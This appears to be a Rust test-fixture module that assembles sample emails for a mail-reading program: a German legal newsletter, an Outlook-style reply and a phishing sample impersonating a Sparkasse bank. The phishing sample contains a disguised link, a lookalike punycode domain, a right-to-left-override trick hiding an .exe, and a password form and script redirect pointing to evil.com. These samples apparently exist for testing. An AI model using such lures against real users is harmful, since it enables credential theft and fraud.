//! Mail for the reader: what offices get, written out.

#![allow(dead_code)]

use base64::Engine as _;

pub fn base64(bytes: &[u8]) -> String {
    let text = base64::engine::general_purpose::STANDARD.encode(bytes);
    let lines: Vec<&str> = text
        .as_bytes()
        .chunks(76)
        .map(|it| std::str::from_utf8(it).expect("ascii"))
        .collect();
    lines.join("\r\n")
}

/// A picture of stripes.
pub fn picture(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, width, height);
    encoder.set_color(png::ColorType::Rgb);
    let mut writer = encoder.write_header().expect("picture");
    let pixels: Vec<u8> = (0..height)
        .flat_map(|y| {
            (0..width).flat_map(move |x| {
                let is_dark = (x / 12 + y / 12) % 2 == 0;
                if is_dark {
                    [15, 95, 168]
                } else {
                    [214, 230, 245]
                }
            })
        })
        .collect();
    writer.write_image_data(&pixels).expect("picture");
    writer.finish().expect("picture");
    bytes
}

pub fn head(from: &str, subject: &str) -> String {
    format!(
        "From: {from}\r\nTo: Kanzlei Muster <post@kanzlei-muster.example>\r\n\
         Cc: Ablage <ablage@kanzlei-muster.example>\r\nSubject: {subject}\r\n\
         Date: Fri, 20 Nov 2026 09:12:00 -0500\r\nMessage-ID: <{}@letters.example>\r\n\
         MIME-Version: 1.0\r\n",
        subject
            .bytes()
            .map(|it| format!("{it:02x}"))
            .collect::<String>()
    )
}

pub fn html(from: &str, subject: &str, html: &str) -> Vec<u8> {
    let body = base64(html.as_bytes());
    format!(
        "{}Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n",
        head(from, subject)
    )
    .into_bytes()
}

pub fn plain(from: &str, subject: &str, text: &str) -> Vec<u8> {
    let body = base64(text.as_bytes());
    format!(
        "{}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n",
        head(from, subject)
    )
    .into_bytes()
}

/// A part of a mail: its type with parameters, further fields, its bytes.
pub type Part<'a> = (&'a str, &'a str, Vec<u8>);

pub fn multipart(from: &str, subject: &str, kind: &str, parts: &[Part<'_>]) -> Vec<u8> {
    let mut out = format!(
        "{}Content-Type: {kind}; boundary=\"=_x\"\r\n\r\n",
        head(from, subject)
    );
    for (media_type, fields, bytes) in parts {
        out.push_str(&format!(
            "--=_x\r\nContent-Type: {media_type}\r\nContent-Transfer-Encoding: base64\r\n{fields}\r\n{}\r\n",
            base64(bytes)
        ));
    }
    out.push_str("--=_x--\r\n");
    out.into_bytes()
}

pub fn attachment<'a>(media_type: &'a str, fields: &'a str, bytes: &[u8]) -> Part<'a> {
    (media_type, fields, bytes.to_vec())
}

/// What a newsletter of a publisher looks like: tables in tables, sheets, hidden lines, buttons.
pub const NEWSLETTER: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN">
<html><head><title>x</title><style type="text/css">
body { margin:0; background:#f0f0f0 } .pre{display:none !important;font-size:1px}
@media only screen and (max-width:600px){ .full{width:100%!important} .desk{display:none!important} }
.btn a{color:#ffffff;background:#0a6640;padding:10px} h1{font-family:Arial;color:#0a6640}
</style></head><body bgcolor="#f0f0f0"><div class="pre">Vorschautext, den nur die Liste zeigt &zwnj;&nbsp;&zwnj;</div>
<table width="100%" cellpadding="0" bgcolor="#f0f0f0"><tr><td align="center">
<table class="full" width="600" bgcolor="#ffffff"><tr><td><img src="https://track.example/open.gif?id=9" width="1" height="1">
<img src="https://verlag.example/logo.png" alt="Verlag für Recht" width="200" height="40"></td></tr>
<tr><td style="padding:20px"><h1>Neues im Mietrecht</h1>
<p>Sehr geehrte Damen und Herren,</p><p>der <b>Bundesgerichtshof</b> hat am <i>18.&nbsp;November</i> entschieden:
Eine <u>Mieterhöhung</u> ohne Begründung ist <s>wirksam</s> unwirksam (§&nbsp;558a BGB).</p>
<ul><li>Leitsatz und Gründe</li><li>Praxishinweise<ul><li>für Vermieter</li><li>für Mieter</li></ul></li><li>Muster</li></ul>
<ol><li>Prüfen</li><li>Widersprechen</li></ol>
<table class="btn"><tr><td bgcolor="#0a6640" style="background:#0a6640"><a href="https://verlag.example/urteil?utm=1" style="color:#ffffff">Zum Urteil</a></td></tr></table>
<table border="1"><tr><th>Gericht</th><th>Aktenzeichen</th><th align="right">Streitwert</th></tr>
<tr><td>BGH</td><td>VIII ZR 12/26</td><td align="right">12.500,00 €</td></tr>
<tr><td>LG Musterstadt</td><td>3 S 45/25, berichtigt durch Beschluss vom 4. März</td><td align="right">800,00 €</td></tr></table>
<blockquote>„Wer nicht begründet, verliert.“<blockquote>Aus den Gründen</blockquote></blockquote>
<hr><p style="font-size:11px;color:#777777">Sie möchten keine Post mehr? <a href="https://verlag.example/abmelden">Abmelden</a></p>
</td></tr></table></td></tr></table></body></html>"##;

/// What Outlook makes of an answer.
pub const OUTLOOK: &str = r##"<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\:* {behavior:url(#default#VML);}</style><![endif]-->
<style><!-- /* Style Definitions */ p.MsoNormal, li.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;} a:link {color:#0563C1;} span.E-MailFormatvorlage18 {color:windowtext;} --></style></head>
<body lang=DE link="#0563C1" vlink="#954F72" style='word-wrap:break-word'><div class=WordSection1>
<p class=MsoNormal>Sehr geehrter Herr Kollege,<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>anbei die Aufstellung. Bitte sehen Sie vor allem auf die Position <b>Zinsen</b>.<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none'>
<tr><td width=200 valign=top style='width:150pt;border:solid windowtext 1.0pt'><p class=MsoNormal><b>Position</b><o:p></o:p></p></td><td width=120 style='border:solid windowtext 1.0pt'><p class=MsoNormal align=right style='text-align:right'><b>Betrag</b><o:p></o:p></p></td></tr>
<tr><td><p class=MsoNormal>Hauptforderung</p></td><td><p class=MsoNormal align=right style='text-align:right'>4.300,00 €</p></td></tr>
<tr><td><p class=MsoNormal>Zinsen 5 % seit 1.1.2026</p></td><td><p class=MsoNormal align=right style='text-align:right'>190,82 €</p></td></tr></table>
<p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal>Mit freundlichen kollegialen Grüßen<o:p></o:p></p>
<p class=MsoNormal><img width=96 height=48 src="cid:image001.png@01D0A0B0.C0D0E0F0" alt="Logo der Kanzlei"><o:p></o:p></p>
<p class=MsoNormal>Dr. Anna Größl<br><a href="mailto:groessl@kollegin.example">groessl@kollegin.example</a> | <a href="http://www.kollegin.example/">www.kollegin.example</a><o:p></o:p></p>
<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p class=MsoNormal><b>Von:</b> Kanzlei Muster &lt;post@kanzlei-muster.example&gt; <br><b>Gesendet:</b> Donnerstag, 19. November 2026 16:04<br><b>Betreff:</b> AW: Forderung</p></div>
<p class=MsoNormal>Könnten Sie die Zinsen bitte noch einmal rechnen?</p></div></body></html>"##;

/// A letter that wants to be taken for one of a bank.
pub const PHISHING: &str = r##"<p>Ihr Konto wurde gesperrt.</p><div style="display:none">sparkasse sparkasse sparkasse legitim</div>
<p>Bitte melden Sie sich an: <a href="https://sparkasse.de.login-pruefung.com/a">https://www.sparkasse.de/login</a></p>
<p>Oder <a href="https://xn--sprkasse-1za.com/">hier</a>. Rechnung&#x202e;fdp.exe</p>
<form action="https://evil.com/"><input type=password name=p><button>Anmelden</button></form>
<script>document.location='https://evil.com'</script><font color="#ffffff">unsichtbar</font>"##;
